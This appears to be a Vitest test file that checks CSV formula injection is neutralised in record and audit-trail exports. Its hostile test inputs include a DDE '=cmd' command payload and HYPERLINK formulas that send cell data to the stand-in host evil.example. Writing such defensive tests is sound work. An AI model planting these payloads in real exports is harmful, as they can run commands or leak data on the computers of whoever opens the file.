import { readFileSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, neutraliseFormulaSql } from '../../src/lib/csv.js';
import { runExport } from '../../src/modules/exports/export.runner.js';
import type { TestContext } from '../helpers/db.js';
import { factories } from '../helpers/factories.js';
import { createJobsTestContext, csvObjects, parseCsv, sha256File } from './helpers.js';

/** Text a spreadsheet would run as a formula, and text it must leave as it is. */
const HOSTILE = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tx=1', '\rx=1'];
const HARMLESS = ['-12.50', '+7', '42', 'plain', 'a=b', "'=already quoted", ''];

describe('CSV formula injection is neutralised in every CSV path', () => {
  let t: TestContext & { exportDir: string };
  let f: ReturnType<typeof factories>;

  beforeAll(async () => {
    t = await createJobsTestContext();
    f = factories(t.owner.prisma, t.services);
  });
  afterAll(async () => t.close());

  it('applies one rule in Node and in PostgreSQL (the SQL twin agrees on every case)', async () => {
    for (const text of [...HOSTILE, ...HARMLESS, '=', '-', '-1.', '--1', '-1e5', '\u00a0=1']) {
      const { rows } = await t.owner.pool.query<{ v: string }>(`SELECT ${neutraliseFormulaSql('$1::text')} AS v`, [text]);
      expect(rows[0]!.v, JSON.stringify(text)).toBe(neutraliseFormula(text));
    }
    for (const text of HOSTILE) expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of HARMLESS) expect(neutraliseFormula(text)).toBe(text);
  });

  it('prefixes formula cells of a record export (COPY … CSV), and the manifest matches the file', async () => {
    const tenant = await f.tenant({ name: '=cmd|"/c calc"!A1' });
    const account = await f.account(tenant.id);
    for (const d of [...HOSTILE, ...HARMLESS]) await f.transaction(account, { description: d });
    const engineer = await f.staff('ENGINEER');
    const ctx = await f.staffCtx(engineer);
    const deps = { ...t.services.exportRunner, exportDir: t.exportDir };

    const job = await t.services.exports.start(ctx, {
      tenantId: tenant.id,
      resource: 'Transaction',
      format: 'csv',
      reason: 'ticket 1',
    });
    const result = await runExport(deps, job.id);
    expect(result.outcome).toBe('completed');
    if (result.outcome !== 'completed') return;
    const rows = csvObjects(readFileSync(result.filePath, 'utf8'));
    const descriptions = rows.map((r) => r.description);
    for (const d of HOSTILE) expect(descriptions).toContain(`'${d}`);
    for (const d of HARMLESS.filter(Boolean)) expect(descriptions).toContain(d);
    // Numbers, ids and timestamps are untouched.
    for (const r of rows) {
      expect(r.amount).toMatch(/^\d+\.\d{2}$/);
      expect(r.occurredAt).toMatch(/^\d{4}-/);
    }
    const manifest = JSON.parse(readFileSync(result.manifestPath, 'utf8')) as { file: { sha256: string } };
    expect(manifest.file.sha256).toBe(sha256File(result.filePath));

    const tenants = await t.services.exports.start(ctx, {
      tenantId: tenant.id,
      resource: 'Tenant',
      format: 'csv',
      reason: 'ticket 2',
    });
    const tenantExport = await runExport(deps, tenants.id);
    if (tenantExport.outcome !== 'completed') throw new Error(tenantExport.outcome);
    const [tenantRow] = csvObjects(readFileSync(tenantExport.filePath, 'utf8'));
    expect(tenantRow!.name).toBe(`'=cmd|"/c calc"!A1`);
  });

  it('prefixes formula cells of the audit-trail CSV (a failed login with a hostile User-Agent), manifest matching', async () => {
    const agent = '=HYPERLINK("http://evil.example/?"&A1,"help")';
    await t.services.staffAuth
      .login(
        { correlationId: 'csv-injection', userAgent: agent },
        { email: 'nobody@example.com', password: 'wrong-password-123' },
      )
      .catch(() => undefined);
    const compliance = await f.staff('COMPLIANCE');
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const manifest = await t.services.auditConsole.exportTrail(await f.staffCtx(compliance), {}, 'csv', out);
    out.end();
    const bytes = Buffer.concat(chunks);
    const [header, ...rows] = parseCsv(bytes.toString('utf8'));
    const column = header!.indexOf('userAgent');
    expect(rows.map((r) => r[column])).toContain(`'${agent}`);
    expect(rows.map((r) => r[column])).not.toContain(agent);
    expect(manifest.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
  });
});
